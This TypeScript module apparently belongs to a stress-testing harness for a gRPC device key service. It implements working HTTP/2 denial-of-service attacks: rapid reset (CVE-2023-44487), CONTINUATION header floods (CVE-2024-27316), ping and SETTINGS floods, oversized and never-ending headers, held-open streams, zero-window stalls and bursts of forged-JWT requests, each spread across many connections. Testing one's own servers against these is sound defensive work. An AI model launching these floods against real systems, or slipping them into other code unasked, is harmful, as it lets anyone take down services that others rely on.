import { connect } from 'node:http2';
import type { Settings } from 'node:http2';
import type { Socket } from 'node:net';
import { makeKeyPair, makeKeyUpdate } from '../../../examples/demo/device.ts';
import { frame, textMessage } from '../../grpc_frame.ts';
import type { Attack, Tally, Target } from '../protocol.ts';
import { Swarm, pour } from '../swarm.ts';
import { FLAG, FrameReader, PREFACE, SETTINGS, SETTINGS_ACK, TYPE, frameOf, headerBlock } from './frames.ts';

const STREAMS = 100;
const FRAMES = 1_000;
const UPDATE = '/keyturn.v1.DeviceKeyService/UpdatePublicKey';
const CHECK = '/grpc.health.v1.Health/Check';
const ALMOST_A_MESSAGE = 1_000_000;
const LARGE = 60_000;
const PACE_MS = 20;

type Field = readonly [name: string, value: string];

/** The header block of a call; fields that HTTP/2 itself needs come first. */
function callBlock(path: string, more: readonly Field[] = []): Buffer {
  const own: Field[] = [[':method', 'POST'], [':scheme', 'http'], [':authority', 'a'], [':path', path]];
  return headerBlock([...own, ['content-type', 'application/grpc'], ['te', 'trailers'], ...more]);
}

/** Opens a connection as a client does, and goes on. */
function greeted(more: (socket: Socket) => void) {
  return (socket: Socket): void => {
    socket.write(Buffer.concat([PREFACE, SETTINGS]));
    more(socket);
  };
}

/** Wrong JWTs over many streams: the next as soon as one is answered. */
const streams: Attack = (target, tally) => {
  const { jwt, pop } = makeKeyUpdate(target.deviceId, makeKeyPair(), makeKeyPair());
  const block = callBlock(UPDATE, [['authorization', jwt]]);
  const message = frame(textMessage(pop));
  const state = new WeakMap<Socket, { id: number; reader: FrameReader }>();
  const send = (socket: Socket): void => {
    const own = state.get(socket);
    if (own === undefined) return;
    tally.requests += 1;
    socket.write(Buffer.concat([frameOf(TYPE.headers, FLAG.endHeaders, own.id, block), frameOf(TYPE.data, FLAG.endStream, own.id, message)]));
    own.id += 2;
  };
  const open = greeted((socket) => {
    state.set(socket, { id: 1, reader: new FrameReader() });
    for (let count = 0; count < STREAMS; count += 1) send(socket);
  });
  const data = (socket: Socket, chunk: Buffer): void => {
    state.get(socket)?.reader.read(chunk, (type, flags) => {
      if (type === TYPE.settings && (flags & FLAG.ack) === 0) socket.write(SETTINGS_ACK);
      if (type !== TYPE.headers || (flags & FLAG.endStream) === 0) return;
      tally.answers += 1;
      send(socket);
    });
  };
  new Swarm(target.grpc, target, tally, { open, data }).start();
};

/** The same frame over and over. */
function flood(one: Buffer): Attack {
  const block = Buffer.concat(Array.from({ length: FRAMES }, () => one));
  return (target, tally) => {
    const open = greeted((socket) =>
      pour(socket, () => {
        tally.requests += FRAMES;
        return block;
      }),
    );
    new Swarm(target.grpc, target, tally, { open, data: () => {} }).start();
  };
}

/** Streams that are opened and at once reset (CVE-2023-44487). */
const rapidReset: Attack = (target, tally) => {
  const block = callBlock(UPDATE);
  const open = greeted((socket) => {
    let id = 1;
    pour(socket, () => {
      const pairs = Array.from({ length: STREAMS }, () => {
        const stream = id;
        id += 2;
        return Buffer.concat([frameOf(TYPE.headers, FLAG.endHeaders, stream, block), frameOf(TYPE.reset, 0, stream, Buffer.alloc(4))]);
      });
      tally.requests += STREAMS;
      return Buffer.concat(pairs);
    });
  });
  new Swarm(target.grpc, target, tally, { open, data: () => {} }).start();
};

/** A header list that never ends (CVE-2024-27316). */
const continuation: Attack = (target, tally) => {
  const start = callBlock(UPDATE);
  const more = frameOf(TYPE.continuation, 0, 1, headerBlock([['x-a', 'a'.repeat(8_000)]]));
  const open = greeted((socket) => {
    socket.write(frameOf(TYPE.headers, 0, 1, start));
    pour(socket, () => {
      tally.requests += 1;
      return more;
    });
  });
  new Swarm(target.grpc, target, tally, { open, data: () => {} }).start();
};

/** Through a client of HTTP/2, so many streams on each connection; what closes is opened again. */
function sessions(settings: Settings, begin: (session: ReturnType<typeof connect>, tally: Tally) => void): Attack {
  return (target, tally) => {
    for (let count = 0; count < target.connections; count += 1) keep(target, tally, settings, begin);
  };
}

function keep(target: Target, tally: Tally, settings: Settings, begin: (session: ReturnType<typeof connect>, tally: Tally) => void): void {
  const session = connect(`http://${target.host}:${target.grpc}`, { settings, localAddress: target.source } as object);
  session.on('error', () => void (tally.broken += 1));
  session.once('remoteSettings', () => {
    tally.connections += 1;
    tally.open += 1;
    session.once('close', () => void (tally.open -= 1));
    begin(session, tally);
  });
  session.once('close', () => setTimeout(() => keep(target, tally, settings, begin), PACE_MS));
}

/** As many streams as go, each with the headers and part of a message. */
function held(path: string, headers: Record<string, string>, body: Buffer | undefined, isEnded: boolean) {
  return (session: ReturnType<typeof connect>, tally: Tally): void => {
    for (let count = 0; count < STREAMS; count += 1) {
      tally.requests += 1;
      const stream = session.request({ ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers', ...headers }, { endStream: false });
      stream.on('error', () => {});
      stream.on('response', () => void (tally.answers += 1));
      if (body !== undefined) stream.write(body);
      if (isEnded) stream.end();
    }
  };
}

const almost = Buffer.concat([Buffer.from([0, 0, 0x10, 0, 0]), Buffer.alloc(ALMOST_A_MESSAGE)]);

export const GRPC_ATTACKS = {
  streams,
  pings: flood(frameOf(TYPE.ping, 0, 0, Buffer.alloc(8))),
  settings: flood(SETTINGS),
  rapidReset,
  continuation,
  largeHeaders: sessions({}, held(UPDATE, { 'x-large': 'a'.repeat(LARGE) }, undefined, false)),
  endless: sessions({}, held(UPDATE, {}, almost, false)),
  openStreams: sessions({}, held(UPDATE, {}, undefined, false)),
  zeroWindow: sessions({ initialWindowSize: 0 }, held(CHECK, {}, frame(Buffer.alloc(0)), true)),
} satisfies Record<string, Attack>;
